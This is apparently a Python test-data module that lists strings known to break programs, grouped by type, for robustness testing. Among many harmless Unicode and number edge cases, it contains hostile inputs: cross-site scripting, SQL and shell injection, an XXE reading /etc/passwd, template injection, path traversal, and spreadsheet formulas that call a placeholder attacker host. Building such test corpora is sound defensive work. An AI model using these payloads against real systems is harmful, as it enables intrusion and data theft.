"""Strings that break programs, by what they break. Our own list; lone surrogates stand for bytes that are not UTF-8."""

# ruff: noqa: E501  # rows of odd strings: breaking them helps no reader

from collections.abc import Mapping

NASTIEST: tuple[str, ...] = (
    "\0",
    "a\0b",
    "\ud800",
    "\udc80",
    "\u202eevil.exe",
    "👩‍👩‍👧‍👦",
    "a\u200db",
    "\ufeff",
    "\ufffe\uffff",
    "\U0010ffff",
    "\x1b[31mred",
    "\x08\x7f",
    "\r\nSet-Cookie: a=b",
    "line\rline\r\nline\nline",
    "\u2028\u2029\u0085",
    "Z̷̡̛͔̯͇͖̹̬̠̀̾a̴͎l̶̢̛̯͙͎̻̓g̵̻̒ò̷̼",
    "İıſßŉǰ",
    "9" * 5000,
    "-1",
    "1e9999999",
    "NaN",
    "Infinity",
    "٣",
    "²",
    "2147483648",
    "1_000",
    "[]",
    '{"$gt": ""}',
    "%00%0a%ff",
    "%s%n{0}{a.__class__}{{7*7}}{%x%}${7*7}",
    "<script>alert(1)</script>",
    "\"'><svg/onload=alert(1)>",
    "' OR '1'='1'; DROP TABLE assessments_answer; --",
    "../../../../etc/passwd",
    "=cmd|'/c calc'!A1",
    "</textarea></title><b>",
    " \u00a0\u3000 ",
    "a" * 501,
    "ą" * 500,
    "𝒳" * 120,
)

CLASSES: Mapping[str, tuple[str, ...]] = {
    "nothing and nearly nothing": ("", " ", "\t", "\n", "\r", "\r\n", "\u00a0", "\u2007", "\u202f", "\u3000", ".", "-"),
    "words of programs": (
        "undefined", "undef", "nil", "NULL", "(null)", "NIL", "None", "True", "False", "true", "false", "void", "this",
        "self", "constructor", "prototype", "__proto__", "__class__", "__init__", "__dict__", "toString", "hasOwnProperty",
        "then", "\\", "\\\\", "/", "//", "CON", "PRN", "AUX", "NUL", "COM1", "LPT1",
    ),
    "numbers": (
        "0", "00", "-0", "+0", "0.0", "-0.0", "1.", ".1", "1,5", "1.5", "1e5", "1E+5", "1e-400", "1e400", "-1e400", "1/0",
        "0/0", "-", "+", "--1", "+-1", "1+1", "0b1", "0o7", "0x0", "0xFFFFFFFF", "1_000", "1 000", "1\u00a0000",
        "1\u202f000", "1'000", "1.000,00", "1,000.00", "NaN", "nan", "-NaN", "sNaN", "NaN123", "inf", "-inf",
        "Infinity", "-Infinity", "1#INF", "1#QNAN", "32767", "32768", "65535", "65536", "2147483647", "2147483648",
        "-2147483648", "-2147483649", "4294967295", "4294967296", "9007199254740993", "9223372036854775807",
        "9223372036854775808", "18446744073709551616", "1" + "0" * 309, "9" * 4300, "9" * 4301, "0" * 5000, "1e" + "9" * 400,
        "٠١٢", "۴", "１２", "५", "௧", "Ⅷ", "½", "①", "²", "₃", "𝟙", "〇", "一",
    ),
    "dates": ("9999-12-31", "0000-00-00", "10000-01-01", "2024-02-30", "-0001-01-01", "1900-02-29", "24:00", "23:59:60"),
    "control characters": (
        *(chr(number) for number in range(0x01, 0x20)), "\x7f", *(chr(number) for number in range(0x80, 0xA0)),
        "a\x00", "\x00a", "a\x1fb", "\x1b]0;title\x07", "\x1b[2J", "\x04", "\x1a",
    ),
    "surrogates and noncharacters": (
        "\ud800", "\udbff", "\udc00", "\udfff", "\udc00\ud800", "\ud83d", "\ude00", "a\ud83db", "\udcff\udcfe",
        "\ufdd0", "\ufdef", "\ufffe", "\uffff", "\U0001fffe", "\U0001ffff", "\U000f0000", "\U0010fffd", "\U0010ffff",
        "\ufffd", "\ufffc",
    ),
    "direction": (
        "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
        "\u061c", "abc\u202etxt.exe", "\u202e" * 200, "שלום עולם", "مرحبا بالعالم", "a שלום 1 مرحبا b", "\u2067\u2066)(\u2069",
    ),
    "joined and stacked": (
        "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u180e", "\u115f\u1160", "\u3164", "\uffa0",
        "👨‍👩‍👧‍👦", "👩🏿‍🚀", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇵🇱🇬🇧", "🇵", "❤️", "❤︎", "1️⃣", "👍🏻👍🏿", "\U000e0001\U000e007f", "e\u0301", "é",
        "a" + "\u0301" * 400, "ﷺ", "﷽", "ก็็็็็็็็็็็็็็็็็็็็", "ཧཱུྃ", "क्षि", "ﬁﬀ", "Ǆǅǆ",
    ),
    "case and folding": ("İ", "ı", "ſ", "ß", "ẞ", "ŉ", "ǰ", "ΐ", "Σίσυφος", "ﬃ", "K", "Å", "ﬅ", "ᾳ", "ϓ", "İSTANBUL", "straße"),
    "languages": (
        "Zażółć gęślą jaźń", "ŻÓŁĆ", "Příliš žluťoučký kůň", "Съешь ещё", "Ελληνικά", "ไทย", "हिन्दी", "বাংলা", "தமிழ்", "中文字符",
        "日本語テキスト", "한국어", "한", "ភាសាខ្មែរ", "አማርኛ", "ᚠᛇᚻ", "𓂀𓃒", "𝕿𝖍𝖊", "𠜎𠜱𠝹", "␣␀", "¯\\_(ツ)_/¯", "(╯°□°)╯︵ ┻━┻", "ˀʔ",
    ),
    "quotes and signs": (
        "'", '"', "''", '""', "'\"'", "`", "´", "‘’‚‛“”„‟", "«»‹›", "!@#$%^&*()", "<>?:\"{}|_+", ",./;'[]\\-=", "¡™£¢∞§¶•ªº–≠",
        "Ω≈ç√∫˜µ≤≥÷", "€‚ƒ„…†‡ˆ‰", "\u00a4", "#", "&", "%", "%%", "?a=b&c=d#e", ";", "|", "~", "$", "$$", "…", "—",
    ),
    "markup": (
        "<", ">", "</", "<!--", "-->", "]]>", "<![CDATA[x]]>", "<?xml version='1.0'?>", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        "<script>alert('a')</script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script/src=//evil.example/a.js>",
        "<img src=x onerror=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x>", "<iframe src=javascript:alert(1)>",
        "<a href=\"java\tscript:alert(1)\">a</a>", "<style>@import'//evil.example'</style>", "<base href=//evil.example/>",
        "<form action=//evil.example><button>x", "<meta http-equiv=refresh content=0;url=//evil.example>", "\" autofocus onfocus=alert(1) x=\"",
        "' onmouseover='alert(1)", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x",
        "&lt;script&gt;", "&#60;script&#62;", "&#0;", "&#x110000;", "&#xD800;", "&amp;amp;", "</textarea><script>alert(1)</script>",
        "</title><b>", "</select><b>", "<plaintext>", "<math><mtext></p>", "<b>bold", "<blink>", "\\u003cscript\\u003e", "\\x3cscript\\x3e",
    ),
    "templates and formats": (
        "{{ 7*7 }}", "{% load x %}", "{% csrf_token %}", "{#", "{{ request.META }}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
        "%(a)s", "%s", "%d", "%n%n%n%n", "%x" * 20, "{0}", "{}", "{a}", "{0.__class__.__mro__}", "%(", "%%s", "$(id)", "`id`", "\\n", "\\0", "\\u0000",
        "\\ud800", "#read(\"/etc/passwd\")", "#panic()", "\\input{/etc/passwd}", "[a](javascript:alert(1))", "![](http://evil.example/a.png)",
    ),
    "queries and commands": (
        "'; DROP TABLE assessments_result; --", "1; SELECT pg_sleep(10)", "' UNION SELECT NULL--", "\" OR \"\"=\"", "admin'--", "1' AND SLEEP(5)#",
        "'||(SELECT version())||'", "%' OR 1=1 --", "_%", "\\'", "x' AND 1=(SELECT COUNT(*) FROM tabname); --", "; ls -la", "| cat /etc/passwd",
        "&& id", "$(touch /tmp/x)", "`touch /tmp/x`", "\n/bin/true\n", "() { :; }; echo x", "*)(uid=*))(|(uid=*", "{\"$ne\": null}", "' or '' = '",
    ),
    "formulas": (
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠a", "=cmd|'/c calc'!A0",
        "=HYPERLINK(\"http://evil.example\",\"a\")", "=IMPORTXML(\"http://evil.example\",\"//a\")", "|=1", "%0A=1", "'=1", "\";=1", ",=1",
    ),
    "paths and addresses": (
        "../", "..\\", "../../../../../../etc/passwd", "..%2f..%2f", "%2e%2e/", "....//", "/etc/passwd", "C:\\Windows\\win.ini", "\\\\evil\\a",
        "file:///etc/passwd", "http://evil.example/", "//evil.example", "/\\evil.example", "https:///evil.example", "http:evil.example",
        "http://127.0.0.1:22/", "http://[::1]/", "http://0x7f.1/", "http://a@b@evil.example/", "gopher://a", "\\evil", "/%09/evil.example", "?", "#",
        "a?b#c", ";/x", "a/b", "a%2fb", "%00", "%", "%zz", "%u0000", "%c0%ae", "%ff%fe", "%e0%80%80", "%ed%a0%80", "%f8%88%80%80%80",
    ),
    "headers": ("a\r\nb: c", "a\nb", "a\rb", "\r\n\r\n<html>", "%0d%0aSet-Cookie:a=b", "\u560a\u560d", "a;b=c", "a,b,c", "=?utf-8?q?a?=", "*/*;q=9", "q=" + "1" * 400),
    "long": (
        "a" * 119, "a" * 120, "a" * 121, "a" * 499, "a" * 500, "a" * 501, "a" * 5000, "a" * 70000, "ą" * 120, "ą" * 121, "ą" * 500,
        "𝒳" * 120, "𝒳" * 121, "𝒳" * 500, "👩‍👩‍👧‍👦" * 30, "a " * 2500, "\n" * 500, "\r\n" * 250, "\r\n" * 251, "<" * 500, "&" * 500, "(" * 2000, "[" * 2000,
        "{\"a\":" * 1000, "a" * 65536,
    ),
}  # fmt: skip


def corpus() -> tuple[str, ...]:
    """All of them, once each."""
    return tuple(dict.fromkeys([*NASTIEST, *(text for group in CLASSES.values() for text in group)]))
